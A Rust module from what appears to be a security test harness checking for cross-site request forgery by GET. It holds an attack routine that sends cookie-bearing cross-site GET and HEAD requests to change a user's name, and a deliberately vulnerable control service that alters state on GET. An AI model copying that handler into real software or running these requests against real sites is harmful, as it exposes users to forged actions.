//! Cross-site request forgery by GET: a link or a picture asks with the fields of a form in its address, and is sent with
//! the cookie, because following a link is nobody's form.

use axum::extract::{Query, State};
use axum::routing::{get, post};
use axum::{Json, Router};
use serde_json::{Value, json};
use std::collections::HashMap;
use std::sync::{Arc, Mutex, PoisonError};

use super::{Attack, Control, everybody_signs_in};
use crate::Outcome;
use crate::http::NAVIGATION;
use crate::target::Target;

pub const ATTACK: Attack = Attack { name: "csrf_get", settings: &[], control: Control::Service };

const ADDRESSES: [&str; 4] = [
    "/rpc/change_name?name=Owned",
    "/rpc/change_name?name=Owned&_method=POST",
    "/api/v1/me?name=Owned",
    "/account?name=Owned",
];

pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
    target.create_account("alice@example.com").await?;
    let mut ways = Vec::new();
    for path in ADDRESSES {
        for site in ["sec-fetch-site: cross-site\r\nsec-fetch-dest: document\r\n", "referer: https://evil.example/\r\n"]
        {
            for method in ["GET", "HEAD"] {
                let alice = target.sign_in("alice@example.com").await?;
                let headers = format!("{NAVIGATION}{site}cookie: {}\r\n", alice.cookie);
                // With the token as well: no page of another site has it, and it makes no difference.
                let with_token = format!("{headers}authorization: Bearer {}\r\n", alice.token);
                for headers in [headers, with_token] {
                    target.send(method, path, &headers, "").await?;
                }
                let name = target.me(&alice.token).await?["name"].clone();
                if name == "Owned" {
                    target.bearer("PATCH", "/api/v1/me", &alice.token, &json!({"name": "Sam"})).await?;
                }
                ways.push((format!("{method} {path}"), name == "Owned"));
            }
        }
    }
    Ok(Outcome::of_ways(&ways))
}

type Name = Arc<Mutex<String>>;

pub async fn service() -> anyhow::Result<Target> {
    let router = Router::new()
        .route("/rpc/change_name", get(take))
        .route("/account", get(take))
        .route("/api/v1/me", get(take).patch(change))
        .route("/api/v1/sign-in", post(everybody_signs_in))
        .with_state(Name::default());
    Target::service(router).await
}

/// Reads fields wherever they are, whatever the method.
async fn take(State(name): State<Name>, Query(fields): Query<HashMap<String, String>>) -> Json<Value> {
    let mut name = name.lock().unwrap_or_else(PoisonError::into_inner);
    if let Some(new) = fields.get("name") {
        new.clone_into(&mut name);
    }
    Json(json!({"name": *name}))
}

async fn change(State(name): State<Name>, Json(body): Json<Value>) {
    let new = body["name"].as_str().unwrap_or_default();
    new.clone_into(&mut name.lock().unwrap_or_else(PoisonError::into_inner));
}
